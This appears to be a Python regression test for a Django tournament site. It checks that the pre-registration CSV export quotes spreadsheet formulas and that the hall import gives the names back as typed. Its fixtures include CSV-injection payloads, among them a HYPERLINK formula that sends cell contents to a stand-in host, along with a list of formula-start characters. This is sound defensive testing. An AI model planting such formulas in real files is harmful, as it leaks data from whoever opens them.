"""Formulas in the pre-registration file, on a real gunicorn server (issue
35, item 4).

Strangers type the names of the teams they pre-register; the organizer
downloads the list (`preinscriptions.csv`) and opens it in a spreadsheet,
or imports it on the hall laptop. Before the fix the file wrote what was
typed raw: `=HYPERLINK(…)`, `@SUM(…)`, `+33 1`, `-2+3`, `＝1+1` ran as
formulas. Now every such cell starts with a single quote, as the other
exports write them (queries/exports.inert), and the laptop's import takes
the quote off again: the names come back exactly as typed."""

from __future__ import annotations

import base64
import csv
import io
import re

import pytest

from tests.attacks import server as real
from tests.factories import PASSWORD

# engine_free: the file's quoting is the same code on any database.
pytestmark = [pytest.mark.attack, pytest.mark.engine_free]

LOGIN = "/compte/connexion/"
CONFIRM = re.compile(r"http://\S+/preinscription/confirmer/[^\s/]+/")
#: (first name, last name) of player 1 of each team: what a stranger types.
HOSTILE = [
    ('=HYPERLINK("http://x.example/?"&A1', "Clic"),
    ("@SUM(A1:A9)", "Somme"),
    ("+33 1", "Telephone"),
    ("-2+3", "Calcul"),
    ("\uff1d1+1", "Pleine-chasse"),
    ("Jean", "-Dupont"),
    ("Marie", "=Martin"),
    ("Luc", "'Quote"),
]
FORMULA_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")

SETUP = """
import datetime, json
from django.contrib.auth import get_user_model
from django.utils import timezone
from tournaments.features.calendar.services import announcements as calendar
from tests import factories
orga = get_user_model().objects.get(username="orga")
t = calendar.announce_concours(
    owner=orga, name="Concours du fichier", date=timezone.localdate() + datetime.timedelta(days=9),
    start_time=datetime.time(14), hall="Salle", address="Rue", postcode="71000", town="Mâcon",
    contact="M. Quéré", max_teams=40)
hall = factories.build_tournament(owner=orga, name="Le concours sur le portable")
print(json.dumps([t.slug, hall.slug]))
"""

#: A registration written past the form (the form now refuses a name that
#: holds a web or mail address: « =HYPERLINK("http://… », « @SUM »), as
#: stored before it did, confirmed.
STORED = """
import json
from django.utils import timezone
from tournaments.models import Tournament
from tournaments.features.calendar.models import PreRegistration
from tournaments.services import team_file
t = Tournament.objects.get(slug={slug!r})
key = "/".join(sorted(team_file.team_key({first!r}, {last!r}, "Paul", {partner!r})))
r = PreRegistration.objects.create(
    tournament=t, first_name1={first!r}, last_name1={last!r}, first_name2="Paul",
    last_name2={partner!r}, email={email!r}, mailbox={email!r}, pair_key=key,
    confirmed_at=timezone.now())
print(json.dumps(r.pk))
"""

NAMES = """
import json
from tournaments.models import Tournament
t = Tournament.objects.get(slug={slug!r})
print(json.dumps(sorted([p.first_name, p.last_name] for team in t.teams.all()
                        for p in (team.player1, team.player2))))
"""


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    server = real.start(
        tmp_path_factory.mktemp("prereg-file"), demo=False, extra_env={"EMAIL_BACKEND": "file"}
    )
    yield server
    server.stop()


def _confirm_every_mail(app, client: real.Client, done: set[str]) -> None:
    """Each team confirms its address from its mail (after the fix)."""
    folder = app.data / "courriels"
    for path in sorted(folder.glob("*.eml")) if folder.exists() else []:
        for link in set(CONFIRM.findall(path.read_text(encoding="utf-8"))) - done:
            target = link.split(app.base, 1)[1]
            client.post(target, {}, token=client.form_token(target))
            done.add(link)


def test_the_file_quotes_formulas_and_the_hall_import_gives_the_names_back(app):
    concours, hall = app.python(SETUP)
    refused, confirmed = [], set()
    for index, (first, last) in enumerate(HOSTILE):
        stranger = real.Client(app.base, source=f"127.0.0.{61 + index}")
        form = {
            "first_name1": first,
            "last_name1": last,
            "first_name2": "Paul",
            "last_name2": f"Partenaire{index}",
            "email": f"equipe{index}@example.org",
        }
        path = f"/concours/{concours}/"
        token = stranger.form_token(f"/t/{concours}/")  # the concours's one public page
        status, page = stranger.post(path, form, token=token)
        if status == 422 and "pas d&#x27;adresse web" in page:
            refused.append(first)
            fields = {"first": first, "last": last, "partner": form["last_name2"]}
            app.python(STORED.format(slug=concours, email=form["email"], **fields))
            continue
        assert status == 302, page[:400]
        _confirm_every_mail(app, stranger, confirmed)
    print(f"\nthe form refused {len(refused)} name(s) holding an address: {refused}")

    organizer = real.Client(app.base, source="127.0.0.70")
    token = organizer.form_token(LOGIN)
    assert organizer.post(LOGIN, {"username": "orga", "password": PASSWORD}, token=token)[0] == 302
    status, text = organizer.get(f"/organisation/t/{concours}/preinscriptions.csv")
    assert status == 200
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row[:5]]
    raw = [cell for cell in cells if cell.lstrip().startswith(FORMULA_STARTS)]
    print(f"\npreinscriptions.csv: {len(rows) - 1} teams, {len(raw)} cell(s) a formula: {raw}")
    assert len(rows) - 1 == len(HOSTILE)
    assert raw == []

    # The hall laptop imports the file: every name comes back as typed.
    token = organizer.form_token(f"/organisation/t/{hall}/equipes/importer/")
    data = base64.b64encode(text.encode("utf-8")).decode("ascii")
    status, page = organizer.post(
        f"/organisation/t/{hall}/equipes/importer/", {"confirm": "1", "data": data}, token=token
    )
    assert status == 302, page[:600]
    names = app.python(NAMES.format(slug=hall))
    typed = [[first, last] for first, last in HOSTILE]
    typed += [["Paul", f"Partenaire{index}"] for index in range(len(HOSTILE))]
    assert names == sorted(typed)
